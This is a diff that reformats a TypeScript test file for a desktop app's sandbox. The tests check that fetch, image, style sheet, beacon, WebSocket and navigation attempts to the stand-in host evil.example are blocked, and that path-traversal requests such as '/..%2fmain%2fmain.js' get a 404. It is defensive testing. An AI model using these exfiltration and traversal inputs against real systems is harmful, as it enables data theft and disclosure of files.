@@ -7,7 +7,13 @@ import { launchStandin, type StandinApp } from "./standinApp.ts";
 test("[S1] the policy stops every request, every string turned into code, and every frame", async ({ standin }) => {
   needsStandin();
   const outcome = await tryToReach(standin.page, "evil.example");
-  expect(outcome).toMatchObject({ fetch: "TypeError", "local file": "TypeError", image: "refused", "style sheet": "refused", socket: expect.stringMatching(/refused|SecurityError/) });
+  expect(outcome).toMatchObject({
+    fetch: "TypeError",
+    "local file": "TypeError",
+    image: "refused",
+    "style sheet": "refused",
+    socket: expect.stringMatching(/refused|SecurityError/),
+  });
   const code = await standin.page.evaluate(async () => {
     // The debugger that evaluates this may use eval; the page's own tasks may not.
     await new Promise((resolve) => setTimeout(resolve));
@@ -39,7 +45,8 @@ test("[S1] with the policy taken away, the session still lets nothing out", asyn
     await expect.poll(async () => (await app.report()).log.navigations.length).toBeGreaterThan(0);
     const { log, url } = await app.report();
     expect(log.network).toEqual([]);
-    for (const tried of ["fetch", "image.png", "style.css", "beacon"]) expect(log.blocked).toContain(`https://evil.example/${tried}`);
+    for (const tried of ["fetch", "image.png", "style.css", "beacon"])
+      expect(log.blocked).toContain(`https://evil.example/${tried}`);
     expect(log.blocked).toContain("wss://evil.example/socket");
     expect(log.windowOpen).toEqual([{ url: "https://evil.example/window", action: "deny" }]);
     expect(log.navigations.every(({ prevented }) => prevented)).toBe(true);
@@ -54,7 +61,9 @@ test("the page cannot be led away", async ({ standin }) => {
   await standin.page.evaluate(() => {
     location.href = "https://evil.example/leave?secret";
   });
-  await expect.poll(async () => (await standin.report()).log.navigations.slice(before)).toEqual([{ url: "https://evil.example/leave?secret", prevented: true }]);
+  await expect
+    .poll(async () => (await standin.report()).log.navigations.slice(before))
+    .toEqual([{ url: "https://evil.example/leave?secret", prevented: true }]);
   expect((await standin.report()).url).toBe("app://obelus/index.html");
 });
 
@@ -71,7 +80,14 @@ test("[S1] WebRTC sends no packet, and would without the seals", async () => {
   expect(packets.open, "the test can see packets").toBeGreaterThan(0);
 });
 
-for (const address of ["/..%2fmain%2fmain.js", "/../main/main.js", "/%2e%2e/preload/preload.cjs", "/..%5cmain%5cmain.js", "/index.html%00", "/%"]) {
+for (const address of [
+  "/..%2fmain%2fmain.js",
+  "/../main/main.js",
+  "/%2e%2e/preload/preload.cjs",
+  "/..%5cmain%5cmain.js",
+  "/index.html%00",
+  "/%",
+]) {
   test(`serves nothing outside its folder: ${address}`, async ({ desktop }) => {
     expect(await status(desktop.page, address)).toBe(404);
   });
@@ -79,7 +95,9 @@ for (const address of ["/..%2fmain%2fmain.js", "/../main/main.js", "/%2e%2e/prel
 
 test("serves its own page and refuses to change it", async ({ desktop }) => {
   expect(await status(desktop.page, "/index.html")).toBe(200);
-  expect(await desktop.page.evaluate(async () => (await fetch("/index.html", { method: "POST", body: "x" })).status)).toBe(404);
+  expect(
+    await desktop.page.evaluate(async () => (await fetch("/index.html", { method: "POST", body: "x" })).status),
+  ).toBe(404);
 });
 
 function status(page: Page, address: string): Promise<number> {
